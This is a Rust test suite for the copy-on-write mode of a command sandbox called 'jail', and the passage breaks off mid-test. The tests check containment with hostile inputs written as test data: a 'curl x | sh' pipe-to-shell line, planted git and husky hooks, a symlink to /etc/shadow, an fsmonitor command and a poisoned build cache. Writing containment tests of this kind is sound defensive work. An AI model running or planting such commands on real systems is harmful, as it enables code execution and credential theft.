//! Copy-on-write workspaces (`--cow`): the host's tree stays byte-identical while the command
//! writes freely, the change set comes back as a patch `git apply` takes and as an apply that
//! reproduces the run's tree, parallel runs never overwrite each other or the user's edits, and
//! nothing of the layer (hooks, config, flagged files) reaches the host unless a person says so.
//!
//! Every test runs the real binary as root and as uid 65534, changes the tree from inside with
//! the tools an agent uses (sh, mv, git), and compares whole trees from the host.

mod common;

use std::collections::BTreeMap;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::path::Path;
use std::process::Command;

use common::cow::{Cow, MODES, cases, run_id};
use common::{Background, Fixture, Layer, Run, Who, full_level_or_skip, users};

/// Every entry under `dir` but `.git`: type, mode and content (a symlink's target).
fn tree(dir: &Path) -> BTreeMap<String, String> {
    fn walk(root: &Path, dir: &Path, out: &mut BTreeMap<String, String>) {
        let mut entries: Vec<_> = std::fs::read_dir(dir).unwrap().flatten().collect();
        entries.sort_by_key(|e| e.file_name());
        for e in entries {
            let p = e.path();
            let rel = p.strip_prefix(root).unwrap().to_string_lossy().into_owned();
            if rel == ".git" {
                continue;
            }
            let m = std::fs::symlink_metadata(&p).unwrap();
            let mode = m.mode() & 0o7777;
            let v = if m.file_type().is_symlink() {
                format!("link {}", std::fs::read_link(&p).unwrap().display())
            } else if m.is_dir() {
                walk(root, &p, out);
                format!("dir {mode:o}")
            } else {
                format!("file {mode:o} {:?}", std::fs::read(&p).unwrap())
            };
            out.insert(rel, v);
        }
    }
    let mut out = BTreeMap::new();
    walk(dir, dir, &mut out);
    out
}

fn fixture(who: Who, off: &'static [Layer], name: &str) -> Cow {
    Cow::new(who, off, name)
}

fn cow_sh(fx: &Cow, script: &str) -> Run {
    let repo = fx.p("repo");
    sh(fx, &["--cow", &repo, "--cwd", &repo], script)
}

fn sh(fx: &Cow, flags: &[&str], script: &str) -> Run {
    let mut args = flags.to_vec();
    args.extend(["--", "/bin/sh", "-c", script]);
    jail(fx, &args)
}

fn jail(fx: &Cow, args: &[&str]) -> Run {
    fx.jail(args)
}

fn committed(fx: &Cow) {
    fx.committed();
}

/// What an agent does to a tree: every kind of change a patch must carry.
const EDITS: &str = "set -e
echo more >> file.txt
echo new > src/new.rs
rm sub/keep
mkdir -p olddir/inner && echo moved > olddir/inner/f
printf '\\000\\001\\377binary' > blob.bin
chmod 755 src/main.rs
ln -s src/main.rs link
mv src/new.rs src/renamed.rs
";

#[test]
fn writes_leave_the_host_untouched_until_apply_and_the_patch_reproduces_the_tree() {
    if !full_level_or_skip("cow") {
        return;
    }
    for (who, off) in cases() {
        let fx = fixture(who, off, "cow-patch");
        // A directory that exists below, renamed inside (EXDEV under userxattr: mv copies).
        std::fs::create_dir_all(fx.repo.join("docs/api")).unwrap();
        std::fs::write(fx.repo.join("docs/api/index.md"), "# api\n").unwrap();
        std::fs::write(fx.repo.join("old.bin"), [0u8, 1, 2, 3, 255]).unwrap();
        fx.give_to(who);
        let before = tree(&fx.repo);
        let script = format!("{EDITS}mv docs manual\nprintf '\\000\\002' >> old.bin\ncat file.txt");
        let run = cow_sh(&fx, &script);
        assert!(run.ok(), "{who:?}: {}", run.describe());
        assert!(
            run.stdout.contains("original\nmore"),
            "the command sees its own write: {}",
            run.describe()
        );
        assert_eq!(
            tree(&fx.repo),
            before,
            "{who:?}: the host tree changed during a --cow run"
        );
        let id = run_id(&run);

        let diff = jail(&fx, &["diff", &id]);
        assert!(diff.ok(), "{}", diff.describe());
        for needle in [
            "rename from docs/api/index.md",
            "GIT binary patch",
            "new file mode 120000",
            "old mode 100644",
        ] {
            assert!(
                diff.stdout.contains(needle),
                "{who:?}: the patch lacks {needle:?}:\n{}",
                diff.stdout
            );
        }
        assert_eq!(tree(&fx.repo), before, "jail diff changed the host");

        // The patch on a clean copy of the tree as it was.
        let clean = fx.dir.join("clean");
        let cp = Command::new("cp")
            .args(["-a"])
            .arg(&fx.repo)
            .arg(&clean)
            .status()
            .unwrap();
        assert!(cp.success());
        let patch = fx.dir.join("run.patch");
        std::fs::write(&patch, &diff.stdout).unwrap();
        let applied = Command::new("git")
            .arg("-C")
            .arg(&clean)
            .arg("apply")
            .arg(&patch)
            .output()
            .unwrap();
        assert!(
            applied.status.success(),
            "git apply: {}\n{}",
            String::from_utf8_lossy(&applied.stderr),
            diff.stdout
        );

        // The mode change is flagged (left out by default): taken here, as the patch has it.
        let apply = jail(&fx, &["apply", &id, "--include-flagged"]);
        assert!(apply.ok(), "{}", apply.describe());
        let after = tree(&fx.repo);
        // git knows no directory modes and no empty directories: compare files and links.
        let files = |t: &BTreeMap<String, String>| -> BTreeMap<String, String> {
            t.iter()
                .filter(|(_, v)| !v.starts_with("dir"))
                .map(|(k, v)| (k.clone(), v.clone()))
                .collect()
        };
        assert_eq!(
            files(&tree(&clean)),
            files(&after),
            "{who:?}: git apply and jail apply disagree"
        );
        assert_eq!(
            after["file.txt"],
            format!("file 644 {:?}", b"original\nmore\n")
        );
        assert_eq!(after["link"], "link src/main.rs");
        assert!(after["src/main.rs"].starts_with("file 755"));
        assert!(
            after.contains_key("manual/api/index.md") && !after.contains_key("docs/api/index.md")
        );
        assert!(!after.contains_key("sub/keep") && !after.contains_key("src/new.rs"));
        assert_eq!(
            after["blob.bin"],
            format!("file 644 {:?}", b"\x00\x01\xffbinary")
        );
        let runs = jail(&fx, &["runs"]);
        assert!(
            runs.stdout.contains("no pending"),
            "an applied run stays listed: {}",
            runs.describe()
        );
    }
}

#[test]
fn parallel_runs_never_see_each_other_and_the_second_apply_refuses_the_overlap() {
    if !full_level_or_skip("cow") {
        return;
    }
    for (who, off) in cases() {
        let fx = fixture(who, off, "cow-parallel");
        let first = cow_sh(&fx, "echo first > file.txt");
        let second = cow_sh(
            &fx,
            "cat file.txt; echo second > file.txt; echo both >> src/main.rs",
        );
        assert!(
            first.ok() && second.ok(),
            "{}\n{}",
            first.describe(),
            second.describe()
        );
        assert_eq!(
            second.stdout, "original\n",
            "{who:?}: a run saw another run's write"
        );
        let (a, b) = (run_id(&first), run_id(&second));
        assert!(jail(&fx, &["apply", &a]).ok());
        assert_eq!(
            std::fs::read_to_string(fx.repo.join("file.txt")).unwrap(),
            "first\n"
        );
        let before = tree(&fx.repo);
        let refused = jail(&fx, &["apply", &b]);
        assert_eq!(refused.code, Some(1), "{who:?}: {}", refused.describe());
        assert!(
            refused.stderr.contains("file.txt") && refused.stderr.contains("conflict"),
            "{}",
            refused.describe()
        );
        assert_eq!(
            tree(&fx.repo),
            before,
            "{who:?}: a refused apply changed the host"
        );
        // Asked for, the part that does not overlap lands; the rest stays in the layer.
        let partial = jail(&fx, &["apply", &b, "--skip-conflicts"]);
        assert!(partial.ok(), "{}", partial.describe());
        assert_eq!(
            std::fs::read_to_string(fx.repo.join("file.txt")).unwrap(),
            "first\n"
        );
        assert_eq!(
            std::fs::read_to_string(fx.repo.join("src/main.rs")).unwrap(),
            "fn main() {}\nboth\n"
        );
        let runs = jail(&fx, &["runs"]);
        assert!(
            runs.stdout.contains(&b) && runs.stdout.contains("partial"),
            "{}",
            runs.describe()
        );
        assert!(jail(&fx, &["discard", &b]).ok());
        assert!(jail(&fx, &["runs"]).stdout.contains("no pending"));
    }
}

#[test]
fn host_changes_during_the_run_are_detected_at_apply() {
    if !full_level_or_skip("cow") {
        return;
    }
    for (who, off) in cases() {
        let fx = fixture(who, off, "cow-host-edit");
        std::fs::create_dir_all(fx.repo.join("gone")).unwrap();
        std::fs::write(fx.repo.join("gone/a"), "a\n").unwrap();
        std::fs::write(fx.repo.join("deleted-later"), "d\n").unwrap();
        fx.give_to(who);
        let marker = fx.dir.join("go");
        let repo = fx.p("repo");
        let script = format!(
            "echo agent >> file.txt; echo agent > deleted-later; rm -r gone; echo started; \
             while [ ! -e {} ]; do sleep 0.02; done",
            marker.display()
        );
        let args = [
            "--cow", &repo, "--cwd", &repo, "--", "/bin/sh", "-c", &script,
        ];
        let mut cmd = fx.command(common::jail_bin(), &args);
        let off: Vec<&str> = fx.off.iter().map(|l| l.name()).collect();
        cmd.env("JAIL_TEST_DISABLE", off.join(","));
        let mut bg = Background::spawn(cmd);
        bg.expect("started");
        // The user keeps working: an edit, a deletion, a file added in a directory the run removed.
        std::fs::write(fx.repo.join("file.txt"), "user\n").unwrap();
        std::fs::remove_file(fx.repo.join("deleted-later")).unwrap();
        std::fs::write(fx.repo.join("gone/b"), "user's new file\n").unwrap();
        std::fs::write(&marker, "").unwrap();
        let run = bg.finish();
        assert!(run.ok(), "{}", run.describe());
        let id = run_id(&run);
        let before = tree(&fx.repo);
        let refused = jail(&fx, &["apply", &id]);
        assert_eq!(refused.code, Some(1), "{who:?}: {}", refused.describe());
        for name in ["file.txt", "deleted-later"] {
            assert!(
                refused.stderr.contains(name),
                "{who:?}: {name} not named:\n{}",
                refused.describe()
            );
        }
        assert_eq!(tree(&fx.repo), before, "a refused apply changed the host");
        // The run's deletion of `gone` is flagged (no git can bring it back): taken too, the
        // user's file added there since is a conflict.
        let taken = jail(&fx, &["apply", &id, "--include-flagged"]);
        assert_eq!(taken.code, Some(1), "{who:?}: {}", taken.describe());
        assert!(taken.stderr.contains("gone/b"), "{}", taken.describe());
        assert_eq!(tree(&fx.repo), before, "a refused apply changed the host");
    }
}

#[test]
fn flagged_entries_are_left_out_unless_named_and_the_layers_git_never_lands() {
    if !full_level_or_skip("cow") {
        return;
    }
    for (who, off) in cases() {
        let fx = fixture(who, off, "cow-flags");
        committed(&fx);
        let config = std::fs::read(fx.repo.join(".git/config")).unwrap();
        let run = cow_sh(
            &fx,
            "set -e; echo 'curl x | sh' > sub/.envrc; mkdir -p a/b/.husky && echo evil > a/b/.husky/pre-commit; \
             echo '#!/bin/sh' > tool.sh; chmod +x tool.sh; ln -s /etc/shadow out; \
             mkdir -p vendor/bare && cd vendor/bare && git init -q --bare . && cd ../..; \
             printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
             git config core.fsmonitor 'touch /tmp/x'; echo fine > src/lib.rs; \
             git add src/lib.rs; git commit -qm 'agent work' --no-verify",
        );
        assert!(run.ok(), "{}", run.describe());
        assert!(run.stderr.contains("flagged"), "{}", run.describe());
        let id = run_id(&run);
        let head = common::git(&fx, &["rev-parse", "HEAD"]);
        let apply = jail(&fx, &["apply", &id]);
        assert!(apply.ok(), "{}", apply.describe());
        for flagged in [
            "sub/.envrc",
            "a/b/.husky/pre-commit",
            "tool.sh",
            "out",
            "vendor/bare/HEAD",
        ] {
            assert!(
                std::fs::symlink_metadata(fx.repo.join(flagged)).is_err(),
                "{who:?}: flagged {flagged} was applied"
            );
            assert!(
                apply.stderr.contains(flagged.split('/').next().unwrap()),
                "{flagged} not reported as left out:\n{}",
                apply.describe()
            );
        }
        assert_eq!(
            std::fs::read_to_string(fx.repo.join("src/lib.rs")).unwrap(),
            "fine\n"
        );
        // The layer's git: commits as a branch, never its hooks or config, never the user's HEAD.
        assert!(std::fs::symlink_metadata(fx.repo.join(".git/hooks/pre-commit")).is_err());
        assert_eq!(std::fs::read(fx.repo.join(".git/config")).unwrap(), config);
        assert_eq!(
            common::git(&fx, &["rev-parse", "HEAD"]),
            head,
            "the user's branch moved"
        );
        let log = common::git(&fx, &["log", "--format=%s", &format!("jail/{id}")]);
        assert!(
            log.starts_with("agent work\nbase"),
            "{who:?}: branch jail/{id}: {log}"
        );
        // Named, a flagged entry is applied.
        let named = jail(&fx, &["apply", &id, &fx.p("repo/sub/.envrc")]);
        assert!(named.ok(), "{}", named.describe());
        assert_eq!(
            std::fs::read_to_string(fx.repo.join("sub/.envrc")).unwrap(),
            "curl x | sh\n"
        );
        assert!(std::fs::symlink_metadata(fx.repo.join("tool.sh")).is_err());
        assert!(jail(&fx, &["discard", &id]).ok());
    }
}

#[test]
fn an_interrupted_apply_is_rolled_back_and_the_layer_stays() {
    if !full_level_or_skip("cow") {
        return;
    }
    for (who, off) in cases() {
        let fx = fixture(who, off, "cow-crash");
        let run = cow_sh(&fx, EDITS);
        assert!(run.ok(), "{}", run.describe());
        let id = run_id(&run);
        let before = tree(&fx.repo);
        let patch = jail(&fx, &["diff", &id]).stdout;
        let crashed = fx
            .fx
            .jail_with(&["apply", &id], &[], &[("JAIL_TEST_APPLY_CRASH", "4")]);
        assert_ne!(
            crashed.code,
            Some(0),
            "{who:?}: the test hook did not stop the apply: {}",
            crashed.describe()
        );
        assert_ne!(
            tree(&fx.repo),
            before,
            "the crash came before any step: the test proves nothing"
        );
        // The next command that touches the run rolls the half-done apply back.
        let runs = jail(&fx, &["runs"]);
        assert!(runs.stdout.contains(&id), "{}", runs.describe());
        assert_eq!(
            tree(&fx.repo),
            before,
            "{who:?}: an interrupted apply left the host changed"
        );
        assert_eq!(jail(&fx, &["diff", &id]).stdout, patch, "the layer changed");
        let again = jail(&fx, &["apply", &id, "--include-flagged"]);
        assert!(again.ok(), "{who:?}: {}", again.describe());
        assert!(
            std::fs::read_to_string(fx.repo.join("file.txt"))
                .unwrap()
                .ends_with("more\n")
        );
    }
}

#[test]
fn a_patch_for_pipelines_and_no_layer_left_behind() {
    if !full_level_or_skip("cow") {
        return;
    }
    for (who, off) in cases() {
        let fx = fixture(who, off, "cow-pipeline");
        let before = tree(&fx.repo);
        let repo = fx.p("repo");
        let out = fx.p("out.patch");
        let run = sh(
            &fx,
            &["--cow", &repo, "--cwd", &repo, "--patch", &out],
            "echo piped >> file.txt",
        );
        assert!(run.ok(), "{}", run.describe());
        let patch = std::fs::read_to_string(&out).unwrap();
        assert!(patch.contains("+piped"), "{patch}");
        assert_eq!(tree(&fx.repo), before);
        assert!(
            jail(&fx, &["runs"]).stdout.contains("no pending"),
            "--patch left its layer"
        );
        // A run that changes nothing leaves nothing to review.
        let idle = cow_sh(&fx, "cat file.txt >/dev/null");
        assert!(
            idle.ok() && !idle.stderr.contains("jail diff"),
            "{}",
            idle.describe()
        );
        assert!(jail(&fx, &["runs"]).stdout.contains("no pending"));
    }
}

#[test]
fn a_run_cannot_read_another_runs_layer() {
    if !full_level_or_skip("cow") {
        return;
    }
    for (who, off) in cases() {
        let fx = fixture(who, off, "cow-private");
        let first = cow_sh(&fx, "echo PENDING-SECRET > file.txt");
        assert!(first.ok());
        let state = fx.p("state");
        let script = format!("cat {state}/jail/runs/*/0/upper/file.txt; ls -R {state}/jail/runs");
        for flags in [
            vec!["--ro".to_string(), fx.p("repo")],
            vec!["--cow".to_string(), fx.p("repo")],
        ] {
            let flags: Vec<&str> = flags.iter().map(String::as_str).collect();
            let peek = sh(&fx, &flags, &script);
            assert!(
                !peek.stdout.contains("PENDING-SECRET"),
                "{who:?}: a run read a pending layer: {}",
                peek.describe()
            );
        }
        // Without jail the same read works: the test can fail.
        let bare = fx
            .command(Path::new("/bin/sh"), &["-c", &script])
            .output()
            .unwrap();
        assert!(String::from_utf8_lossy(&bare.stdout).contains("PENDING-SECRET"));
    }
}

#[test]
fn git_work_inside_the_view_behaves() {
    if !full_level_or_skip("cow") {
        return;
    }
    for (who, off) in cases() {
        let fx = fixture(who, off, "cow-git");
        committed(&fx);
        let before = tree(&fx.repo);
        let run = cow_sh(
            &fx,
            "set -e; echo wip >> file.txt; git status --short; git stash -q; cat file.txt; git stash pop -q; \
             git checkout -qb topic; git commit -qam topic; git checkout -q main; cat file.txt; \
             git checkout -q topic; git log --format=%s | head -1",
        );
        assert!(run.ok(), "{who:?}: {}", run.describe());
        assert_eq!(
            run.stdout,
            " M file.txt\noriginal\noriginal\ntopic\n",
            "{}",
            run.describe()
        );
        assert_eq!(tree(&fx.repo), before);
        let id = run_id(&run);
        assert!(jail(&fx, &["discard", &id]).ok());
        assert!(jail(&fx, &["runs"]).stdout.contains("no pending"));
    }
}

#[test]
fn without_the_mount_view_the_layer_is_a_copy_and_the_root_stays_read_only() {
    if !full_level_or_skip("cow") {
        return;
    }
    for who in users() {
        let fx = fixture(who, &[Layer::Mount], "cow-copy");
        let repo = fx.p("repo");
        let before = tree(&fx.repo);
        // The root's own path is read-only (Landlock); the command works in the copy.
        let script = format!("echo x > {repo}/file.txt || echo refused; pwd; echo y > file.txt");
        let run = cow_sh(&fx, &script);
        assert!(run.ok(), "{who:?}: {}", run.describe());
        assert!(
            run.stdout.starts_with("refused\n"),
            "{who:?}: the root was writable: {}",
            run.describe()
        );
        assert!(
            !run.stdout.contains(&format!("\n{repo}\n")),
            "the command ran in the root, not the copy"
        );
        assert_eq!(tree(&fx.repo), before, "{who:?}: the host tree changed");
        let id = run_id(&run);
        let diff = jail(&fx, &["diff", &id]);
        assert!(diff.stdout.contains("+y"), "{}", diff.describe());
        assert!(jail(&fx, &["apply", &id]).ok());
        assert_eq!(
            std::fs::read_to_string(fx.repo.join("file.txt")).unwrap(),
            "y\n"
        );
        // jail probe says which layer a run gets.
        let probe = fx.fx.jail_with(&["probe"], &[Layer::Mount], &[]);
        assert!(
            probe
                .stdout
                .contains("copy-on-write:    a copy of the root"),
            "{}",
            probe.describe()
        );
        let probe = fx.fx.jail_with(&["probe"], &[], &[]);
        assert!(
            probe.stdout.contains("copy-on-write:    overlay"),
            "{}",
            probe.describe()
        );
        // With Landlock off too, nothing would hold the root: refused, not run.
        let bare = fx.fx.jail_with(
            &["--cow", &repo, "--", "true"],
            &[Layer::Mount, Layer::Landlock],
            &[],
        );
        assert_eq!(bare.code, Some(125), "{}", bare.describe());
    }
}

/// The namespaces looked usable but their id maps were refused once made (inside another
/// sandbox): the launch learns it, decides again, and the run goes through a copied layer with
/// the root read-only, as when the probe knew it from the start; `--require full` refuses.
#[test]
fn namespaces_refused_at_launch_fall_back_to_a_copy_and_never_to_a_writable_root() {
    if !full_level_or_skip("cow") {
        return;
    }
    for who in users() {
        let fx = fixture(who, &[Layer::IdMaps], "cow-late");
        let repo = fx.p("repo");
        let before = tree(&fx.repo);
        let script = format!("echo x > {repo}/file.txt || echo refused; echo y > file.txt");
        let run = cow_sh(&fx, &script);
        assert!(
            run.ok() && run.stdout.starts_with("refused\n"),
            "{who:?}: {}",
            run.describe()
        );
        assert_eq!(tree(&fx.repo), before, "{who:?}: the host tree changed");
        let diff = jail(&fx, &["diff", &run_id(&run)]);
        assert!(diff.stdout.contains("+y"), "{}", diff.describe());
        // The same fallback without copy-on-write roots: the run goes on at a lower level,
        // and one that requires full is refused.
        let plain = sh(&fx, &["--ro", &repo], "echo x > file.txt || echo refused");
        assert!(plain.stdout.contains("refused"), "{}", plain.describe());
        let strict = sh(&fx, &["--require", "full"], "echo RAN");
        assert_eq!(strict.code, Some(125), "{}", strict.describe());
        assert!(!strict.stdout.contains("RAN"), "{}", strict.describe());
    }
}

#[test]
fn a_root_with_a_mount_beneath_or_the_state_inside_is_refused_by_name() {
    if !full_level_or_skip("cow") {
        return;
    }
    for who in users() {
        // The state directory inside the root: the layer would be inside its own lower layer.
        let fx = Fixture::new(who, "cow-state-inside").with_env(&[]);
        let repo = fx.p("repo");
        let inside = fx.p("repo/.state");
        let run = fx.jail_with(
            &["--cow", &repo, "--", "true"],
            &[],
            &[("XDG_STATE_HOME", &inside)],
        );
        assert_eq!(run.code, Some(125), "{who:?}: {}", run.describe());
        assert!(run.stderr.contains("state directory"), "{}", run.describe());
    }
    if !common::is_root() {
        return;
    }
    // A filesystem mounted inside the root: the overlay would show the empty directory beneath.
    let fx = fixture(Who::Root, &[], "cow-submount");
    let mnt = fx.repo.join("mnt");
    std::fs::create_dir_all(&mnt).unwrap();
    let mounted = Command::new("mount")
        .args(["-t", "tmpfs", "tmpfs"])
        .arg(&mnt)
        .status()
        .unwrap();
    assert!(mounted.success());
    let run = cow_sh(&fx, "true");
    let _ = Command::new("umount").arg(&mnt).status();
    assert_eq!(run.code, Some(125), "{}", run.describe());
    assert!(
        run.stderr.contains("mnt") && run.stderr.contains("mounted"),
        "{}",
        run.describe()
    );
}

#[test]
fn a_profile_names_cow_paths_and_runs_lists_them_as_json() {
    if !full_level_or_skip("cow") {
        return;
    }
    for (who, off) in cases() {
        let fx = fixture(who, off, "cow-profile");
        let dir = fx.home.join(".config/jail/profiles");
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::create_dir_all(fx.home.join(".npm")).unwrap();
        std::fs::write(
            dir.join("cowed.toml"),
            "extends = [\"default\"]\n[paths]\ncow = [\"${COW_TEST_ROOT}\"]\ncache = [\"~/.npm\"]\n",
        )
        .unwrap();
        fx.give_to(who);
        let repo = fx.p("repo");
        let run = fx.fx.jail_with(
            &[
                "--profile",
                "cowed",
                "--cwd",
                &repo,
                "--",
                "/bin/sh",
                "-c",
                "echo p > file.txt; echo n > ~/.npm/x || true",
            ],
            fx.off,
            &[("COW_TEST_ROOT", &repo)],
        );
        assert!(run.ok(), "{who:?}: {}", run.describe());
        assert_eq!(
            std::fs::read_to_string(fx.repo.join("file.txt")).unwrap(),
            "original\n"
        );
        assert!(
            std::fs::symlink_metadata(fx.home.join(".npm/x")).is_err(),
            "the profile's cache was written"
        );
        if fx.off.is_empty() {
            assert!(!run.stderr.contains("read-only"), "{}", run.describe());
        }
        let id = run_id(&run);
        let runs = jail(&fx, &["runs", "--json"]);
        let list: serde_json::Value = serde_json::from_str(&runs.stdout).unwrap();
        assert_eq!(list[0]["id"], id.as_str(), "{}", runs.stdout);
        assert_eq!(list[0]["state"], "pending");
        assert_eq!(list[0]["changed"], 1);
        assert_eq!(list[0]["roots"][0], repo.as_str());
    }
}

#[test]
fn a_cache_is_writable_inside_and_nothing_written_reaches_the_host() {
    if !full_level_or_skip("cow") {
        return;
    }
    for (who, off) in cases() {
        let fx = fixture(who, off, "cow-cache");
        let cache = fx.home.join(".cargo/registry");
        std::fs::create_dir_all(cache.join("src")).unwrap();
        std::fs::write(cache.join("src/build.rs"), "clean\n").unwrap();
        fx.give_to(who);
        let dir = cache.to_string_lossy().into_owned();
        let before = tree(&cache);
        // A poisoned cache runs code on the host's next build: the write must never land.
        let script = format!(
            "echo 'poisoned' > {dir}/src/build.rs && echo wrote; mkdir -p {dir}/new && echo x > {dir}/new/f; cat {dir}/src/build.rs"
        );
        let run = sh(&fx, &["--cache", &dir], &script);
        assert!(run.ok(), "{who:?} {off:?}: {}", run.describe());
        if off.is_empty() {
            assert_eq!(
                run.stdout,
                "wrote\npoisoned\n",
                "{who:?}: the cache was not writable inside: {}",
                run.describe()
            );
        } else {
            assert!(run.stderr.contains("read-only"), "{}", run.describe());
            assert_eq!(
                run.stdout,
                "clean\n",
                "{who:?}: the cache was writable without a layer: {}",
                run.describe()
            );
        }
        assert_eq!(
            tree(&cache),
            before,
            "{who:?} {off:?}: a write to the cache reached the host"
        );
        let again = sh(&fx, &["--cache", &dir], &format!("cat {dir}/src/build.rs"));
        assert_eq!(
            again.stdout, "clean\n",
            "a second run saw the first run's cache writes"
        );
        // Writable directly (--rw), the same script does poison it: the test can fail.
        let direct = sh(&fx, &["--rw", &dir], &script);
        assert!(direct.ok(), "{}", direct.describe());
        assert_ne!(tree(&cache), before);
    }
}

#[test]
fn a_run_with_a_writable_home_cannot_plant_a_pending_run() {
    if !full_level_or_skip("cow") {
        return;
    }
    for (who, off) in cases() {
        let fx = fixture(who, off, "cow-plant");
        // No store yet: the first run of jail on this machine, with the home writable.
        let state = fx.p("state");
        let _ = std::fs::remove_dir_all(&state);
        std::fs::create_dir_all(&state).unwrap();
        fx.give_to(who);
        let home = fx.home.to_string_lossy().into_owned();
        let rw_state = fx.p("state");
        let script = format!(
            "mkdir -p {state}/jail/runs/deadbeef/0/upper && echo evil > {state}/jail/runs/deadbeef/0/upper/file.txt && \
             printf '{{\"id\":\"deadbeef\",\"state\":\"pending\",\"kind\":\"overlay\",\"pid\":1,\"created\":0,\"start\":[0,0],\"command\":[],\"layers\":[{{\"root\":\"{repo}\",\"dir\":\"0\",\"git_head\":null}}]}}' > {state}/jail/runs/deadbeef/run.json && echo planted",
            repo = fx.p("repo")
        );
        let run = sh(&fx, &["--rw", &home, "--rw", &rw_state], &script);
        assert!(
            !run.stdout.contains("planted"),
            "{who:?} {off:?}: a run planted a pending run: {}",
            run.describe()
        );
        let runs = jail(&fx, &["runs"]);
        assert!(
            runs.stdout.contains("no pending"),
            "{who:?} {off:?}: {}",
            runs.describe()
        );
        // Without jail the same script plants one that `jail runs` lists: the test can fail.
        let _ = std::fs::remove_dir_all(fx.dir.join("state/jail"));
        let bare = fx
            .command(Path::new("/bin/sh"), &["-c", &script])
            .output()
            .unwrap();
        assert!(String::from_utf8_lossy(&bare.stdout).contains("planted"));
        assert!(jail(&fx, &["runs"]).stdout.contains("deadbeef"));
    }
}

/// The lines of an event stream, each parsed (a line that is not JSON fails the test).
fn event_lines(text: &str) -> Vec<serde_json::Value> {
    text.lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l:?} in\n{text}")))
        .collect()
}

/// The `wrote` paths of a stream, relative to `root`.
fn wrote(lines: &[serde_json::Value], root: &str) -> Vec<String> {
    lines
        .iter()
        .filter(|l| l["event"] == "wrote")
        .map(|l| {
            let p = l["path"].as_str().unwrap();
            p.strip_prefix(root)
                .unwrap_or(p)
                .trim_start_matches('/')
                .to_string()
        })
        .collect()
}

#[test]
fn the_event_stream_reports_each_first_write_once_and_ends_with_the_exit() {
    if !full_level_or_skip("cow") {
        return;
    }
    for (who, off) in cases() {
        let fx = fixture(who, off, "cow-events");
        std::fs::write(fx.repo.join("mapped.txt"), "0123456789\n").unwrap();
        fx.give_to(who);
        let repo = fx.p("repo");
        let events = fx.p("events.jsonl");
        // A write through a shared mapping raises no IN_MODIFY: it must show all the same.
        let mapped = "/usr/bin/python3 -c \"import mmap; f = open('mapped.txt', 'r+b'); \
                      m = mmap.mmap(f.fileno(), 0); m[0:1] = b'X'; m.flush()\"";
        let run = sh(
            &fx,
            &["--cow", &repo, "--cwd", &repo, "--events", &events],
            &format!(
                "set -e; echo a >> file.txt; echo b >> file.txt; mkdir -p new/deep; \
                 echo c > new/deep/f; rm sub/keep; mv src/main.rs src/moved.rs; {mapped}; exit 3"
            ),
        );
        let what = format!("{who:?} off={off:?}");
        assert_eq!(run.code, Some(3), "{what}: {}", run.describe());
        let text = std::fs::read_to_string(&events).unwrap();
        let lines = event_lines(&text);
        assert_eq!(lines[0]["event"], "start", "{what}: {text}");
        assert!(lines[0]["pid"].as_i64().unwrap() > 0, "{what}: {text}");
        assert_eq!(lines[0]["cow"][0], repo.as_str(), "{what}: {text}");
        let last = lines.last().unwrap();
        assert_eq!(last["event"], "exit", "{what}: {text}");
        assert_eq!(last["exit_code"], 3, "{what}: {text}");
        assert_eq!(last["events_dropped"], 0, "{what}: {text}");
        assert_eq!(last["writes_lost"], false, "{what}: {text}");
        let mut paths = wrote(&lines, &repo);
        paths.sort();
        let want = [
            "file.txt",
            "mapped.txt",
            "new",
            "new/deep",
            "new/deep/f",
            "src/main.rs",
            "src/moved.rs",
            "sub/keep",
        ];
        // Each once; the directories that only hold a change (src, sub) are not changes.
        assert_eq!(paths, want, "{what}: {text}");
        assert_eq!(last["paths"], want.len(), "{what}: {text}");
        // The run's writes still wait in the layer.
        assert_eq!(
            std::fs::read_to_string(fx.dir.join("repo/file.txt")).unwrap(),
            "original\n"
        );
    }
}

#[test]
fn a_reader_that_falls_behind_loses_lines_but_never_holds_the_run() {
    if !full_level_or_skip("cow") {
        return;
    }
    for (who, off) in cases() {
        let fx = fixture(who, off, "cow-events-slow");
        let repo = fx.p("repo");
        let fifo = fx.dir.join("events.fifo");
        let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
        assert!(made.success());
        fx.give_to(who);
        // Opened, never read while the run goes on: the pipe fills after a few dozen lines.
        let reader = std::fs::OpenOptions::new()
            .read(true)
            .custom_flags(libc::O_NONBLOCK)
            .open(&fifo)
            .unwrap();
        let run = sh(
            &fx,
            &[
                "--cow",
                &repo,
                "--cwd",
                &repo,
                "--events",
                fifo.to_str().unwrap(),
            ],
            "mkdir many && cd many && i=0; while [ $i -lt 2000 ]; do : > f$i; i=$((i+1)); done",
        );
        let what = format!("{who:?} off={off:?}");
        assert!(run.ok(), "{what}: {}", run.describe());
        let mut text = String::new();
        let _ = std::io::Read::read_to_string(&mut &reader, &mut text);
        // What did arrive is whole lines, the first of them the start.
        let lines = event_lines(&text);
        assert_eq!(lines[0]["event"], "start", "{what}");
        assert!(
            lines.len() < 2000,
            "{what}: the pipe held {} lines",
            lines.len()
        );
        // No reader at all: refused before anything runs, naming the pipe.
        drop(reader);
        let none = sh(
            &fx,
            &["--cow", &repo, "--events", fifo.to_str().unwrap()],
            "true",
        );
        assert_eq!(none.code, Some(125), "{what}: {}", none.describe());
        assert!(none.stderr.contains("no reader"), "{what}: {}", none.stderr);
    }
}

#[test]
fn the_event_stream_is_out_of_the_commands_reach() {
    if !full_level_or_skip("cow") {
        return;
    }
    for who in users() {
        let fx = fixture(who, &[], "cow-events-reach");
        let repo = fx.p("repo");
        // A stream the command could write would let it forge its own timeline.
        let inside = fx.p("repo/events.jsonl");
        let run = sh(&fx, &["--rw", &repo, "--events", &inside], "true");
        assert_eq!(run.code, Some(125), "{who:?}: {}", run.describe());
        assert!(
            run.stderr.contains("--events") && run.stderr.contains("writable inside"),
            "{who:?}: {}",
            run.stderr
        );
        assert!(!fx.dir.join("repo/events.jsonl").exists());
        // fd:N: the descriptor is jail's; the command does not inherit it, and cannot be
        // handed it with --keep-fd.
        let out = fx.p("events-fd.jsonl");
        let script = |keep: &str| {
            format!(
                "exec 7>>{out}; exec {jail} --cow {repo} {keep} --events fd:7 -- /bin/sh -c \
                 'echo {{\\\"event\\\":\\\"exit\\\"}} >&7'",
                jail = common::jail_bin().display(),
            )
        };
        let env_state = fx.p("state");
        let forged = fx
            .command("/bin/sh".as_ref(), &["-c", &script("")])
